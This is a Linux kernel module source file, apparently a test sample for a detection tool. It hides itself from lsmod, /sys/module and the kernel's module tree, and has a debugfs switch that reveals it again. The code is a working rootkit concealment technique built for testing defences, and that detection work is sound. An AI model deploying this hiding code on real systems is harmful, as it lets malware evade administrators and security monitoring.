// SPDX-License-Identifier: Apache-2.0
/*
 * A module that hides itself. from=list (lsmod), from=kset (/sys/module), from=both, from=state
 * (both, and it claims to be on its way out), from=all (both, and the tree that maps code to
 * modules). Writing to /sys/kernel/debug/kapu-attack shows it again, so that it can be unloaded.
 */
#include <linux/debugfs.h>
#include <linux/kobject.h>
#include <linux/rbtree_latch.h>

#include "attack.h"

static char *from = "list";
module_param(from, charp, 0444);

static struct list_head *list_place, *kset_place;
static struct latch_tree_root *tree;
static struct mutex *lock;
static struct dentry *control;
static bool hidden_from_list, hidden_from_kset, hidden_from_tree;

static bool is(const char *what)
{
    return strcmp(from, what) == 0;
}

static bool before(struct latch_tree_node *a, struct latch_tree_node *b)
{
    struct mod_tree_node *left = container_of(a, struct mod_tree_node, node);
    struct mod_tree_node *right = container_of(b, struct mod_tree_node, node);

    return (unsigned long)container_of(left, struct module_memory, mtn)->base <
           (unsigned long)container_of(right, struct module_memory, mtn)->base;
}

static const struct latch_tree_ops order = {.less = before};

static bool is_mapped(enum mod_mem_type type)
{
    return !mod_mem_type_is_init(type) && THIS_MODULE->mem[type].size != 0;
}

static void hide_from_list(void)
{
    list_place = THIS_MODULE->list.prev;
    list_del_init(&THIS_MODULE->list);
    hidden_from_list = true;
}

static void hide_from_kset(void)
{
    struct list_head *entry = &THIS_MODULE->mkobj.kobj.entry;

    kset_place = entry->prev;
    spin_lock(&THIS_MODULE->mkobj.kobj.kset->list_lock);
    list_del_init(entry);
    spin_unlock(&THIS_MODULE->mkobj.kobj.kset->list_lock);
    hidden_from_kset = true;
}

static void hide_from_tree(void)
{
    for_each_mod_mem_type(type)
    {
        if (is_mapped(type))
            latch_tree_erase(&THIS_MODULE->mem[type].mtn.node, tree, &order);
    }
    hidden_from_tree = true;
}

static void show(void)
{
    struct kset *kset = THIS_MODULE->mkobj.kobj.kset;

    mutex_lock(lock);
    THIS_MODULE->state = MODULE_STATE_LIVE;
    if (hidden_from_tree) {
        for_each_mod_mem_type(type)
        {
            if (is_mapped(type))
                latch_tree_insert(&THIS_MODULE->mem[type].mtn.node, tree, &order);
        }
    }
    if (hidden_from_list)
        list_add(&THIS_MODULE->list, list_place);
    if (hidden_from_kset) {
        spin_lock(&kset->list_lock);
        list_add(&THIS_MODULE->mkobj.kobj.entry, kset_place);
        spin_unlock(&kset->list_lock);
    }
    hidden_from_list = hidden_from_kset = hidden_from_tree = false;
    mutex_unlock(lock);
}

static void hide(void)
{
    mutex_lock(lock);
    if (!is("kset"))
        hide_from_list();
    if (!is("list"))
        hide_from_kset();
    if (is("all"))
        hide_from_tree();
    if (is("state"))
        THIS_MODULE->state = MODULE_STATE_GOING;
    mutex_unlock(lock);
}

/* Hidden by the first write, shown by the second: a module is in all structures only after init. */
static ssize_t toggle(struct file *file, const char __user *data, size_t n, loff_t *at)
{
    if (hidden_from_list || hidden_from_kset)
        show();
    else
        hide();
    return n;
}

/* Without an owner: a module that says that it goes could not be opened. */
static const struct file_operations operations = {.write = toggle};

static int __init mount(void)
{
    lock = (void *)lookup("module_mutex");
    tree = (void *)lookup("mod_tree"); /* its first member is the root */
    if (lock == NULL || tree == NULL)
        return -ENOENT;
    control = debugfs_create_file("kapu-attack", 0200, NULL, NULL, &operations);
    return PTR_ERR_OR_ZERO(control);
}

static void __exit undo(void)
{
    debugfs_remove(control);
}

module_init(mount);
module_exit(undo);
MODULE_DESCRIPTION("module that hides itself");
MODULE_LICENSE("GPL");
